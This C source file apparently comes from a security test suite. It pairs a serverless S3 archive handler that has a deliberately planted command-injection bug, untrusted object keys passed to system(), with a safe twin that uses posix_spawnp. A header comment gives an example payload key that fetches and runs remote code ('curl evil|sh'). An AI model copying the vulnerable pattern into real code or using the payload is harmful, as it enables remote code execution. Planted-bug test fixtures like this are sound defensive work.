/* PLANTED BUG (command-injection, S3, in C): archive_handler logs each
 * upload through a shell command line built from the decoded object key,
 * so a key like `a;curl evil|sh;` runs commands. The clean twin,
 * archive_safe_handler, starts the program with an argument vector and no
 * shell. Found in process: the driver preloads lambkin's sink library and
 * the tripwire is first on PATH. */
#include <spawn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>

#include <lambkin/handler.h>

int archive_handler(const lk_request_t *req, lk_response_t *res);
int archive_safe_handler(const lk_request_t *req, lk_response_t *res);

extern char **environ;

static int hex(int c) {
  if (c >= '0' && c <= '9')
    return c - '0';
  if (c >= 'a' && c <= 'f')
    return c - 'a' + 10;
  if (c >= 'A' && c <= 'F')
    return c - 'A' + 10;
  return -1;
}

/* The S3 key, URL-decoded ('+' is a space), into out; 0 if none. */
static int s3_key(const char *payload, char *out, size_t cap) {
  const char *k = strstr(payload, "\"key\":\"");
  size_t o = 0;

  if (k == NULL)
    return 0;
  for (k += 7; *k && *k != '"' && o + 1 < cap; k++) {
    if (*k == '%' && hex(k[1]) >= 0 && hex(k[2]) >= 0) {
      out[o++] = (char)(hex(k[1]) * 16 + hex(k[2]));
      k += 2;
    } else {
      out[o++] = *k == '+' ? ' ' : *k;
    }
  }
  out[o] = '\0';
  return 1;
}

int archive_handler(const lk_request_t *req, lk_response_t *res) {
  char key[512], cmd[700];

  if (!s3_key(req->payload, key, sizeof(key)))
    return lk_fail(res, req, "BadEvent", "no S3 key");
  snprintf(cmd, sizeof(cmd), "echo archiving %s >/dev/null", key);
  if (system(cmd) == -1) /* the bug: event data in a shell command */
    return lk_fail(res, req, "ArchiveFailed", "cannot start the shell");
  return lk_respond(res, req, "{\"archived\":true}", 17);
}

int archive_safe_handler(const lk_request_t *req, lk_response_t *res) {
  char key[512];
  char *argv[] = {"echo", "archiving", key, NULL};
  pid_t pid;
  int st;

  if (!s3_key(req->payload, key, sizeof(key)))
    return lk_fail(res, req, "BadEvent", "no S3 key");
  if (posix_spawnp(&pid, "echo", NULL, NULL, argv, environ) != 0 ||
      waitpid(pid, &st, 0) < 0)
    return lk_fail(res, req, "ArchiveFailed", "cannot start echo");
  return lk_respond(res, req, "{\"archived\":true}", 17);
}
